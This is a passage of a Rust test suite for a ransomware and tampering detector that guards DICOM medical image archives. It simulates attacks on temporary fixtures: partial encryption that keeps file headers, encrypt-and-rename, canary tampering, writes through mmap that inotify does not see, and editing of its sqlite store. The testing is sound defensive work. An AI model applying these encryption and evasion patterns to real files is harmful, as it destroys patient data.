        "{}",
        evidence(&findings)
    );
}

#[test]
fn intermittent_encryption_that_keeps_dicm_is_caught_within_5_s() {
    let (after, findings) = ransomware(|path, i| {
        let mut bytes = fs::read(path).expect("test fixture");
        // The first 4 KiB (preamble, DICM, header) stay; every fourth 4 KiB block after
        // them is encrypted.
        let stream = keystream(bytes.len(), i as u64 + 7);
        for block in (4096..bytes.len()).step_by(16_384) {
            for j in block..(block + 4096).min(bytes.len()) {
                bytes[j] ^= stream[j];
            }
        }
        assert_eq!(&bytes[128..132], b"DICM");
        fs::write(path, bytes).expect("test fixture");
    });
    assert!(after < Duration::from_secs(5), "after {after:?}");
    assert!(
        evidence(&findings).contains("Pixel Data rewritten, header intact"),
        "{}",
        evidence(&findings)
    );
}

#[test]
fn encrypt_and_rename_raises_ransomware_suspected_within_5_s() {
    let (after, findings) = ransomware(|path, i| {
        let len = fs::metadata(path).expect("test fixture").len() as usize;
        let locked = path.with_extension("dcm.locked");
        fs::write(&locked, keystream(len, i as u64 + 3)).expect("test fixture");
        fs::remove_file(path).expect("test fixture");
    });
    assert!(after < Duration::from_secs(5), "after {after:?}");
    assert!(
        evidence(&findings).contains("removed"),
        "{}",
        evidence(&findings)
    );
}

#[test]
fn fast_ingest_raises_no_ransomware_alert() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    image_store(&env, 10);
    let watcher = Watcher::start(&env, &[]);
    for i in 0..2000 {
        let dir = env.path(&format!("archive/incoming{}", i / 200));
        fs::create_dir_all(&dir).expect("test fixture");
        let bytes = DicomBuilder::ct(&format!("1.2.826.0.1.3680043.10.1137.8.{i}")).build();
        fs::write(dir.join(format!("{i}.dcm")), bytes).expect("test fixture");
    }
    let done = watcher.wait(Duration::from_secs(120), |f, _| {
        kinds(f).iter().filter(|k| *k == "added").count() >= 2000 + 10
    });
    std::thread::sleep(Duration::from_secs(1));
    let (code, findings, stderr) = watcher.stop();
    assert!(done, "{stderr}");
    assert!(
        !kinds(&findings).contains(&"ransomware-suspected".to_string()),
        "{findings:#?}"
    );
    // New images are info only (exit 0), unless the kernel dropped events meanwhile.
    assert_eq!(code, expected_status(&findings), "{stderr}");
    assert!(
        findings
            .iter()
            .all(|f| f["severity"] == "info" || f["kind"] == "events-lost"),
        "{findings:#?}"
    );
}

#[test]
fn a_touched_canary_alerts_at_once_and_on_alert_runs() {
    let env = Env::new();
    let canaries = env.path("zz-canary");
    let paged = env.dir.path().join("paged.txt");
    configure(
        &env,
        &format!(
            "scrub_mb_per_s = 0\ncanary_dir = \"{}\"\non_alert = [\"/bin/sh\", \"-c\", \"echo $PACSGUARD_KIND >> {}\"]\n",
            canaries.display(),
            paged.display()
        ),
    );
    let watcher = Watcher::start(&env, &[env.tree_str(), "--policy", "append-only"]);
    let canary = canaries.join("000-pacsguard-canary.dcm");
    let bytes = fs::read(&canary).expect("the watcher wrote its canaries");
    assert_eq!(&bytes[128..132], b"DICM");
    fs::write(&canary, keystream(bytes.len(), 5)).expect("test fixture");
    let raised = watcher.wait(Duration::from_secs(10), |f, _| {
        kinds(f).contains(&"ransomware-suspected".to_string())
    });
    let paged_ok = watcher.wait(Duration::from_secs(10), |_, _| {
        fs::read_to_string(&paged).is_ok_and(|t| t.contains("ransomware-suspected"))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(raised, "{findings:#?} {stderr}");
    assert!(evidence(&findings).contains("canary"));
    assert!(paged_ok, "on_alert ran");
}

#[test]
fn the_scrub_finds_an_edit_no_event_announced() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 50\nscrub_min_cycle_seconds = 1\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    // A write through a shared mapping raises no inotify event; the close event comes
    // only when the mapping goes, and the writer keeps it until it is killed. Only the
    // scrub can see this edit.
    let target = env.path("study/series/2.dcm");
    let script = format!(
        "import mmap,os,sys,time\nfd=os.open('{}',os.O_RDWR)\nm=mmap.mmap(fd,0)\nos.close(fd)\ntime.sleep(0.5)\nm[0:4]=b'XXXX'\nm.flush()\nprint('written',flush=True)\ntime.sleep(120)\n",
        target.display()
    );
    let mut writer = std::process::Command::new("python3")
        .args(["-c", &script])
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 runs");
    let mut line = String::new();
    BufReader::new(writer.stdout.take().expect("test fixture"))
        .read_line(&mut line)
        .expect("test fixture");
    assert_eq!(line.trim(), "written");
    let found = watcher.wait(Duration::from_secs(30), |f, _| {
        tally(f, &env.tree).contains_key(&("content-changed".into(), "study/series/2.dcm".into()))
    });
    let _ = writer.kill();
    let _ = writer.wait();
    let (_, findings, stderr) = watcher.stop();
    assert!(found, "{findings:#?} {stderr}");
    assert!(stderr.contains("scrub cycle complete"), "{stderr}");
    assert!(env.home.join("scrub-cursor.json").exists());
    let counts = tally(&findings, &env.tree);
    assert_eq!(
        counts.get(&("content-changed".into(), "study/series/2.dcm".into())),
        Some(&1)
    );
}

#[test]
fn a_directory_recreated_where_one_was_moved_away_is_watched() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let outside = env.dir.path().join("outside");
    fs::create_dir(&outside).expect("test fixture");
    let watcher = Watcher::start_inotify_only(&env, &[]);
    fs::rename(env.path("study/series"), outside.join("series")).expect("test fixture");
    fs::create_dir(env.path("study/series")).expect("test fixture");
    let removed = watcher.wait(Duration::from_secs(10), |f, _| {
        tally(f, &env.tree).contains_key(&("removed".into(), "study/series/1.dcm".into()))
    });
    fs::write(env.path("study/series/new.dcm"), b"DICM new").expect("test fixture");
    fs::create_dir(env.path("study/series/deeper")).expect("test fixture");
    fs::write(env.path("study/series/deeper/2.dcm"), b"DICM deeper").expect("test fixture");
    // The old directory, now outside, is nothing to report.
    fs::write(outside.join("series/outside.dcm"), b"elsewhere").expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(10), |f, _| {
        let t = tally(f, &env.tree);
        t.contains_key(&("added".into(), "study/series/new.dcm".into()))
            && t.contains_key(&("added".into(), "study/series/deeper/2.dcm".into()))
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(removed && seen, "{findings:#?} {stderr}");
    assert!(
        findings
            .iter()
            .all(|f| !f["path"].as_str().unwrap_or_default().contains("outside")),
        "{findings:#?}"
    );
}

#[test]
fn a_home_inside_a_root_is_never_watched_or_reported() {
    let env = Env::new();
    // A home inside the tree, as a careless installation might have it.
    let home = env.path("pacsguard-home");
    let init = pacsguard()
        .arg("--home")
        .arg(&home)
        .arg("init")
        .output()
        .expect("test fixture");
    assert_eq!(init.status.code(), Some(0));
    let config = home.join("config.toml");
    let mut text = fs::read_to_string(&config).expect("test fixture");
    text.push_str("\n[watch]\nquiet_ms = 100\nscrub_mb_per_s = 0\n");
    fs::write(&config, text).expect("test fixture");
    let mut inside = Env::new();
    inside.home = home.clone();
    inside.tree = env.tree.clone();
    let watcher = Watcher::start(&inside, &[env.tree_str(), "--policy", "append-only"]);
    // Touching the home (a chown -R, a restorecon) names it in an event.
    let now = nix::sys::time::TimeSpec::new(1_700_000_000, 0);
    nix::sys::stat::utimensat(
        nix::fcntl::AT_FDCWD,
        &home,
        &now,
        &now,
        nix::sys::stat::UtimensatFlags::NoFollowSymlink,
    )
    .expect("test fixture");
    fs::write(env.path("readme.txt"), b"changed").expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(10), |f, _| {
        tally(f, &env.tree).contains_key(&("content-changed".into(), "readme.txt".into()))
    });
    std::thread::sleep(Duration::from_secs(2));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{stderr}");
    let about_home: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            f["path"]
                .as_str()
                .unwrap_or_default()
                .contains("pacsguard-home")
        })
        .collect();
    assert!(about_home.is_empty(), "{about_home:#?}");
}

#[test]
fn a_canary_dir_outside_the_roots_is_refused_before_anything_is_written() {
    let env = Env::new();
    let outside = env.dir.path().join("not-a-root/canaries");
    configure(
        &env,
        &format!(
            "scrub_mb_per_s = 0\ncanary_dir = \"{}\"\n",
            outside.display()
        ),
    );
    env.profile(&[]);
    let out = env.run(&["watch"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        common::stderr(&out).contains("canary_dir"),
        "{}",
        common::stderr(&out)
    );
    assert!(!outside.exists());
}

#[test]
fn a_file_rewritten_slowly_is_still_a_change_of_what_was_known() {
    let env = Env::new();
    configure(&env, "quiet_ms = 50\nscrub_mb_per_s = 0\n");
    let paths = image_store(&env, 1);
    let watcher = Watcher::start(&env, &[]);
    // A slow in-place rewrite, longer than the longest wait for quiet (20 x 50 ms):
    // the file may be seen unstable meanwhile, but the change is reported against the
    // digest the profile held.
    let original = fs::read(&paths[0]).expect("test fixture");
    let mut file = fs::OpenOptions::new()
        .write(true)
        .open(&paths[0])
        .expect("test fixture");
    let stream = keystream(original.len(), 9);
    for chunk in stream.chunks(4096) {
        std::io::Write::write_all(&mut file, chunk).expect("test fixture");
        std::thread::sleep(Duration::from_millis(60));
    }
    drop(file);
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        kinds(f)
            .iter()
            .any(|k| k == "no-longer-dicom" || k == "content-changed")
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?} {stderr}");
    assert!(
        !kinds(&findings).contains(&"added".to_string()),
        "{findings:#?}"
    );
}

#[test]
fn a_file_name_that_is_not_utf8_on_the_command_line_is_no_panic() {
    use std::os::unix::ffi::OsStrExt as _;
    let env = Env::new();
    env.profile(&[]);
    let name = std::ffi::OsStr::from_bytes(b"x\xff");
    fs::write(env.tree.join(name), b"odd").expect("test fixture");
    // The lock records the command line: a name that is not UTF-8 is shown escaped.
    let out = pacsguard()
        .arg("--home")
        .arg(&env.home)
        .arg("check")
        .arg(env.tree.join(name))
        .output()
        .expect("pacsguard runs");
    assert!(
        matches!(out.status.code(), Some(0..=2)),
        "{:?}: {}",
        out.status,
        common::stderr(&out)
    );
}

#[test]
fn excluded_subtrees_are_neither_watched_nor_reported() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only", "--exclude", "incoming"]);
    let watcher = Watcher::start_inotify_only(&env, &[]);
    for i in 0..50 {
        let dir = env.path(&format!("incoming/{i}"));
        fs::create_dir_all(&dir).expect("test fixture");
        fs::write(dir.join("part.tmp"), b"spool").expect("test fixture");
    }
    fs::write(env.path("study/series/3.dcm"), b"DICM three").expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(10), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/series/3.dcm".into()))
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{stderr}");
    assert_eq!(findings.len(), 1, "{findings:#?}");
    // The tree's own directories (root, study, study/series) and nothing in incoming/.
    // "... 0 scrub cycles, 3 watches, 0 directories polled)"
    let watches: usize = stderr
        .lines()
        .find(|l| l.contains("stopped cleanly"))
        .and_then(|l| l.split(", ").find_map(|part| part.strip_suffix(" watches")))
        .and_then(|n| n.parse().ok())
        .unwrap_or(usize::MAX);
    assert!(watches <= 3, "{stderr}");
}

#[test]
fn a_restart_after_kill_9_records_the_unclean_stop() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    watcher.signal(nix::sys::signal::Signal::SIGKILL);
    drop(watcher);
    let watcher = Watcher::start(&env, &[]);
    let (code, findings, stderr) = watcher.stop();
    let unclean: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "unclean-stop")
        .collect();
    assert_eq!(unclean.len(), 1, "{findings:#?}\n{stderr}");
    assert_eq!(unclean[0]["severity"], "warning");
    assert_eq!(code, 1);
    // On the trail too, and a clean stop leaves nothing for the next start.
    let shown = env.run(&["audit", "show", "--json"]);
    assert!(
        String::from_utf8_lossy(&shown.stdout).contains("unclean-stop"),
        "{}",
        common::stderr(&shown)
    );
    let watcher = Watcher::start(&env, &[]);
    let (_, findings, _) = watcher.stop();
    assert!(
        !kinds(&findings).contains(&"unclean-stop".to_string()),
        "{findings:#?}"
    );
}

#[test]
fn a_fanotify_queue_overflow_is_a_finding() {
    if !common::is_root() {
        return; // fanotify needs CAP_SYS_ADMIN; inotify's overflow is tested above
    }
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    // A stopped process reads nothing: fanotify's queue (16,384 events) overflows with
    // one close-after-write per file.
    watcher.signal(nix::sys::signal::Signal::SIGSTOP);
    let dir = env.path("flood");
    fs::create_dir(&dir).expect("test fixture");
    for i in 0..17_000 {
        fs::write(dir.join(format!("{i}.tmp")), b"x").expect("test fixture");
    }
    // And the queue of attribute changes, one per file: each queue's overflow is on the
    // trail with its own count (one overflow must not fold the other into its count).
    for i in 0..17_000 {
        let file = dir.join(format!("{i}.tmp"));
        fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600))
            .expect("test fixture");
    }
    watcher.signal(nix::sys::signal::Signal::SIGCONT);
    let trail = env.home.join("audit.log");
    let recorded = |what: &str| fs::read_to_string(&trail).is_ok_and(|t| t.contains(what));
    let seen = watcher.wait(Duration::from_secs(120), |f, _| {
        f.iter().any(|f| f["kind"] == "events-lost")
            && recorded("fanotify's queue overflowed")
            && recorded("queue of attribute changes")
    });
    std::thread::sleep(Duration::from_secs(2)); // time for a duplicate to show
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen,
        "{:#?}\n{stderr}",
        findings
            .iter()
            .filter(|f| f["kind"] != "added")
            .collect::<Vec<_>>()
    );
    // Two queues overflowed in one flood: one incident, one `events-lost` finding for the
    // root (bench/watch.sh's burst had one per queue: a duplicate), naming the queues
    // that overflowed before it was reported.
    let lost: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "events-lost")
        .collect();
    assert_eq!(lost.len(), 1, "{lost:#?}");
    let detail = lost[0]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("fanotify's queue") && detail.contains("overflows since the last report"),
        "{lost:#?}"
    );
}

/// Debian's libfaketime (package `faketime`), for whichever architecture this is.
fn libfaketime() -> std::path::PathBuf {
    let found = fs::read_dir("/usr/lib")
        .expect("/usr/lib")
        .flatten()
        .map(|e| e.path().join("faketime/libfaketime.so.1"))
        .find(|p| p.exists());
    found.expect("libfaketime: run scripts/setup-test-deps.sh (Debian package faketime)")
}

#[test]
fn a_wall_clock_step_is_recorded_and_is_no_heartbeat_gap() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nheartbeat_seconds = 1\n");
    env.profile(&[]);
    // The watcher's wall clock is libfaketime's, stepped by rewriting this file; its
    // clock since boot is the kernel's.
    let offset = env.dir.path().join("faketime");
    fs::write(&offset, "+0\n").expect("test fixture");
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_pacsguard"));
    command
        .env("LD_PRELOAD", libfaketime())
        .env("FAKETIME_TIMESTAMP_FILE", &offset)
        .env("FAKETIME_NO_CACHE", "1")
        .env("FAKETIME_DONT_FAKE_MONOTONIC", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    std::thread::sleep(Duration::from_millis(2500));
    fs::write(&offset, "+1d\n").expect("test fixture");
    // Waited for, not slept on (flake audit of session 41: a fixed 3.5 s).
    watcher.wait(Duration::from_secs(30), |_, err| {
        err.contains("the wall clock was stepped forward")
    });
    let (_, _, stderr) = watcher.stop();
    assert!(
        stderr.contains("the wall clock was stepped forward by 86400 s"),
        "{stderr}"
    );
    let verify = env.run(&["audit", "verify"]);
    let said = format!("{}{}", common::stdout(&verify), common::stderr(&verify));
    assert!(!said.contains("heartbeat gap"), "{said}");
    assert_eq!(verify.status.code(), Some(0), "{said}");
    let shown = env.run(&["audit", "show"]);
    assert!(
        common::stdout(&shown).contains("the wall clock was stepped forward"),
        "{}",
        common::stdout(&shown)
    );
}

/// A small tmpfs, unmounted (lazily) when dropped.
struct SmallDisk(std::path::PathBuf);

impl SmallDisk {
    fn mount(at: &Path, size: &str) -> SmallDisk {
        fs::create_dir_all(at).expect("test fixture");
        let status = std::process::Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={size},mode=0700"),
                "tmpfs",
            ])
            .arg(at)
            .status()
            .expect("mount runs");
        assert!(status.success(), "mount tmpfs");
        SmallDisk(at.to_path_buf())
    }

    /// Fills it: writes until the file system says it is full.
    fn fill(&self) -> std::path::PathBuf {
        use std::io::Write as _;
        let filler = self.0.join("filler");
        let mut file = fs::File::create(&filler).expect("test fixture");
        let block = vec![0xa5u8; 64 * 1024];
        loop {
            if let Err(e) = file.write_all(&block) {
                assert_eq!(e.raw_os_error(), Some(libc_enospc()), "{e}");
                break;
            }
        }
        let _ = file.sync_all();
        filler
    }
}

fn libc_enospc() -> i32 {
    nix::errno::Errno::ENOSPC as i32
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.0)
            .status();
    }
}

#[test]
fn a_full_home_disk_keeps_the_guard_running_and_the_trail_catches_up() {
    if !common::is_root() {
        return; // mounting a small file system for the home needs root
    }
    let mut env = Env::new();
    let disk = SmallDisk::mount(&env.dir.path().join("small"), "8m");
    env.home = disk.0.join("home");
    let init = env.run(&["init"]);
    assert!(init.status.success(), "{}", common::stderr(&init));
    // on_alert writes outside the full disk, and a syslog collector listens: the page and
    // the records must go out while the trail is down.
    let paged = env.dir.path().join("paged.txt");
    let collector = std::net::UdpSocket::bind("127.0.0.1:0").expect("test fixture");
    collector
        .set_read_timeout(Some(Duration::from_millis(200)))
        .expect("test fixture");
    configure(
        &env,
        &format!(
            "scrub_mb_per_s = 0\ncheckpoint_seconds = 1\non_alert = [\"/bin/sh\", \"-c\", \"echo $PACSGUARD_KIND >> {}\"]\ndegraded_syslog = \"udp://{}\"\n",
            paged.display(),
            collector.local_addr().expect("test fixture")
        ),
    );
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    let filler = disk.fill();
    // Changes while the disk is full: the trail's last page still takes a few records,
    // then it cannot be written; the changes are reported all the same.
    for i in 0..100 {
        if watcher
            .findings()
            .iter()
            .any(|f| f["kind"] == "trail-degraded")
        {
            break;
        }
        fs::write(
            env.path("study/series/1.dcm"),
            format!("changed while the disk was full ({i})"),
        )
        .expect("test fixture");
        std::thread::sleep(Duration::from_millis(200));
    }
    let seen = watcher.wait(Duration::from_secs(15), |f, _| {
        let t = tally(f, &env.tree);
        t.contains_key(&("content-changed".into(), "study/series/1.dcm".into()))
            && f.iter().any(|f| f["kind"] == "trail-degraded")
    });
    assert!(seen, "{:#?}\n{}", watcher.findings(), watcher.stderr());
    fs::write(env.path("readme.txt"), b"changed again, still full\n").expect("test fixture");
    let again = watcher.wait(Duration::from_secs(15), |f, _| {
        tally(f, &env.tree).contains_key(&("content-changed".into(), "readme.txt".into()))
    });
    assert!(again, "{:#?}\n{}", watcher.findings(), watcher.stderr());
    let paged_ok = watcher.wait(Duration::from_secs(10), |_, _| {
        fs::read_to_string(&paged).is_ok_and(|t| t.contains("trail-degraded"))
    });
    assert!(paged_ok, "on_alert ran while the trail was down");
    // The collector heard the trail go down and the change made meanwhile (RFC 5424,
    // the DICOM audit message inside).
    let mut heard = String::new();
    let end = Instant::now() + Duration::from_secs(5);
    let mut datagram = vec![0u8; 65536];
    while Instant::now() < end
        && !(heard.contains("trail-degraded") && heard.contains("readme.txt"))
    {
        if let Ok(n) = collector.recv(&mut datagram) {
            heard.push_str(&String::from_utf8_lossy(&datagram[..n]));
        }
    }
    assert!(heard.contains("<AuditMessage>"), "{heard}");
    assert!(
        heard.contains("trail-degraded") && heard.contains("readme.txt"),
        "{heard}"
    );
    // Space returns: the trail catches up by itself.
    fs::remove_file(&filler).expect("test fixture");
    let caught_up = watcher.wait(Duration::from_secs(20), |_, err| {
        err.contains("the audit trail caught up")
    });
    let (code, findings, stderr) = watcher.stop();
    assert!(caught_up, "{findings:#?}\n{stderr}");
    assert_eq!(code, 1, "{stderr}");
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}{}",
        common::stdout(&verify),
        common::stderr(&verify)
    );
    let shown = common::stdout(&env.run(&["audit", "show"]));
    // The change made while the trail was behind (readme.txt, 12 -> 26 bytes) is on it.
    assert!(shown.contains("(12 -> 26 bytes)"), "{shown}");
    assert!(
        shown.contains("the audit trail cannot be written"),
        "{shown}"
    );
    assert!(shown.contains("the audit trail caught up"), "{shown}");
}

#[test]
fn a_root_replaced_by_a_symlink_and_restored_is_compared_with_what_it_held() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\npoll_seconds = 1\n");
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    let aside = env.dir.path().join("aside");
    fs::rename(&env.tree, &aside).expect("test fixture");
    std::os::unix::fs::symlink(env.dir.path().join("elsewhere"), &env.tree).expect("test fixture");
    let gone = watcher.wait(Duration::from_secs(10), |f, _| {
        tally(f, &env.tree).contains_key(&("removed".into(), "readme.txt".into()))
    });
    assert!(gone, "{:#?}", watcher.findings());
    // Changed while it was away, then put back.
    fs::write(aside.join("study/series/2.dcm"), b"DICM changed while away").expect("test fixture");
    fs::remove_file(&env.tree).expect("test fixture");
    fs::rename(&aside, &env.tree).expect("test fixture");
    let back = watcher.wait(Duration::from_secs(15), |f, _| {
        tally(f, &env.tree).contains_key(&("content-changed".into(), "study/series/2.dcm".into()))
    });
    std::thread::sleep(Duration::from_secs(2));
    let (_, findings, stderr) = watcher.stop();
    assert!(back, "{findings:#?}\n{stderr}");
    let t = tally(&findings, &env.tree);
    for rel in ["study/series/2.dcm", "readme.txt", "study/series/1.dcm"] {
        assert!(
            !t.contains_key(&("added".into(), rel.into())),
            "{rel} came back as new: {findings:#?}"
        );
    }
}

/// Writes `size` bytes that are neither zeros nor holes (no shortcut in reading or
/// hashing them), in 4 MiB chunks.
fn write_dense(path: &Path, size: u64) {
    let chunk = keystream(4 << 20, 77);
    let mut file = fs::File::create(path).expect("test fixture");
    let mut written = 0u64;
    while written < size {
        let n = usize::try_from((size - written).min(chunk.len() as u64)).expect("test fixture");
        std::io::Write::write_all(&mut file, &chunk[..n]).expect("test fixture");
        written += n as u64;
    }
    file.sync_all().expect("test fixture");
}

/// The index of the first finding of `kind` about `rel` (relative to the tree).
fn position(findings: &[Value], tree: &Path, kind: &str, rel: &str) -> Option<usize> {
    let path = tree.join(rel);
    findings
        .iter()
        .position(|f| f["kind"] == kind && f["path"].as_str() == path.to_str())
}

/// Issue 11 (review): a big file was hashed on the event loop, so while a 2 GiB series
/// was hashed nothing else was reported. It is hashed by a worker now: a change made
/// after it is reported before it, and a rename of it is still one `moved` finding.
#[test]
fn a_big_file_being_hashed_does_not_hold_up_other_changes() {
    const BIG: u64 = (2 << 30) + (256 << 20); // 2.25 GiB
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    // Sorts before every other path: verified in one batch with them, it would be
    // reported first.
    let big = env.path("a-big-series.bin");
    write_dense(&big, BIG);
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    // One byte rewritten in the middle: the whole file is hashed again.
    {
        let mut file = fs::OpenOptions::new()
            .write(true)
            .open(&big)
            .expect("test fixture");
        std::io::Seek::seek(&mut file, std::io::SeekFrom::Start(BIG / 2)).expect("test fixture");
        std::io::Write::write_all(&mut file, b"!").expect("test fixture");
    }
    std::thread::sleep(Duration::from_millis(100));
    fs::write(
        env.path("study/series/1.dcm"),
        b"DICM changed while hashing",
    )
    .expect("test fixture");
    let both = watcher.wait(Duration::from_secs(120), |f, _| {
        position(f, &env.tree, "content-changed", "a-big-series.bin").is_some()
            && position(f, &env.tree, "content-changed", "study/series/1.dcm").is_some()
    });
    let findings = watcher.findings();
    assert!(both, "{findings:#?} {}", watcher.stderr());
    let small = position(
        &findings,
        &env.tree,
        "content-changed",
        "study/series/1.dcm",
    );
    let large = position(&findings, &env.tree, "content-changed", "a-big-series.bin");
    assert!(
        small < large,
        "the small change waited for the big hash: {findings:#?}"
    );
    // Renamed: one move, not a removal and an arrival.
    fs::rename(&big, env.path("a-big-series.moved")).expect("test fixture");
    let moved = watcher.wait(Duration::from_secs(120), |f, _| {
        position(f, &env.tree, "moved", "a-big-series.moved").is_some()
    });
    std::thread::sleep(Duration::from_millis(1000)); // time for a duplicate to show
    // Changed again, and the watcher stopped while it is hashed: the stop waits for it
    // (or says it could not), it is not dropped in silence.
    {
        let mut file = fs::OpenOptions::new()
            .write(true)
            .open(env.path("a-big-series.moved"))
            .expect("test fixture");
        std::io::Write::write_all(&mut file, b"?").expect("test fixture");
    }
    // Time for the event to be read before the stop (flake audit of session 41: 300 ms).
    std::thread::sleep(Duration::from_millis(2000));
    let (_, findings, stderr) = watcher.stop();
    fs::remove_file(env.path("a-big-series.moved")).ok();
    assert!(moved, "{findings:#?} {stderr}");
    let last = tally(&findings, &env.tree);
    assert!(
        last.contains_key(&("content-changed".into(), "a-big-series.moved".into()))
            || last.contains_key(&("not-inspected".into(), "a-big-series.moved".into())),
        "the change made before the stop: {findings:#?}"
    );
    let counts = tally(&findings, &env.tree);
    assert_eq!(
        counts.get(&("content-changed".into(), "a-big-series.bin".into())),
        Some(&1),
        "{findings:#?}"
    );
    for kind in ["removed", "added"] {
        assert!(
            !counts
                .keys()
                .any(|(k, p)| k == kind && p.starts_with("a-big-series")),
            "{findings:#?}"
        );
    }
}

/// Real DICOM files written by others (pydicom's samples), `count` of them.
fn pydicom_samples(count: usize) -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files");
    let mut samples: Vec<_> = fs::read_dir(&dir)
        .expect("pydicom samples (scripts/setup-test-deps.sh)")
        .map(|e| e.expect("test fixture").path())
        .filter(|p| p.extension().is_some_and(|e| e == "dcm"))
        .filter(|p| fs::metadata(p).is_ok_and(|m| m.len() > 1024 && m.len() < 1 << 20))
        .collect();
    samples.sort();
    samples.truncate(count);
    assert_eq!(samples.len(), count, "pydicom samples in {}", dir.display());
    samples
}

/// The changes of `findings` (not the kernel dropping events, which other tests on the
/// same mount can cause).
fn changes(findings: &[Value]) -> Vec<&Value> {
    findings
        .iter()
        .filter(|f| f["kind"] != "events-lost")
        .collect()
}

#[test]
fn a_restart_compares_with_what_the_last_watcher_saw_not_with_the_profile() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let samples = pydicom_samples(3);
    let arrived = |i: usize| format!("study/arrived-{i}.dcm");

    // First run: three images arrive and a profiled file changes.
    let watcher = Watcher::start(&env, &[]);
    for (i, sample) in samples.iter().enumerate() {
        fs::copy(sample, env.path(&arrived(i))).expect("test fixture");
    }
    fs::write(env.path("readme.txt"), b"edited during the first run").expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        (0..3).all(|i| t.contains_key(&("added".into(), arrived(i))))
            && t.contains_key(&("content-changed".into(), "readme.txt".into()))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");

    // Second run, nothing changed meanwhile: nothing to report, however often restarted.
    for _ in 0..2 {
        let watcher = Watcher::start(&env, &[]);
        let (_, findings, stderr) = watcher.stop();
        assert!(
            changes(&findings).is_empty(),
            "reported again after a restart: {findings:#?}\n{stderr}"
        );
    }

    // Changed while no watcher ran: compared with what the last one saw.
    fs::write(
        env.path(&arrived(0)),
        b"DICM encrypted while nobody watched",
    )
    .expect("test fixture");
    fs::remove_file(env.path(&arrived(1))).expect("test fixture");
    fs::write(env.path("readme.txt"), b"edited again while down").expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    let (_, findings, stderr) = watcher.stop();
    let t = tally(&findings, &env.tree);
    assert!(
        t.keys()
            .any(|(k, p)| p == &arrived(0) && k != "added" && k != "removed"),
        "the arrival changed while down is a change: {findings:#?}\n{stderr}"
    );
    assert_eq!(
        t.get(&("removed".into(), arrived(1))),
        Some(&1),
        "{findings:#?}"
    );
    assert_eq!(
        t.get(&("content-changed".into(), "readme.txt".into())),
        Some(&1),
        "{findings:#?}"
    );
    assert!(
        !t.keys().any(|(_, p)| p == &arrived(2)),
        "the untouched arrival is nothing new: {findings:#?}"
    );
    assert_eq!(changes(&findings).len(), 3, "{findings:#?}");
}

#[test]
fn what_the_last_watcher_saw_edited_in_the_store_is_an_alert_and_compared_with_the_profile() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let sample = &pydicom_samples(1)[0];
    let watcher = Watcher::start(&env, &[]);
    fs::copy(sample, env.path("study/arrived.dcm")).expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/arrived.dcm".into()))
    });
    let (_, findings, _) = watcher.stop();
    assert!(seen, "{findings:#?}");
    // An intruder edits what was seen (here: one byte of the kept entry) with sqlite3.
    let store = env.home.join("pacsguard.db");
    let edited = std::process::Command::new("sqlite3")
        .arg(&store)
        .arg(
            "UPDATE watch_seen SET entries = substr(entries, 1, length(entries) - 1) || x'00' \
             WHERE rel = CAST('study/arrived.dcm' AS BLOB); SELECT changes();",
        )
        .output()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    assert_eq!(
        String::from_utf8_lossy(&edited.stdout).trim(),
        "1",
        "{}",
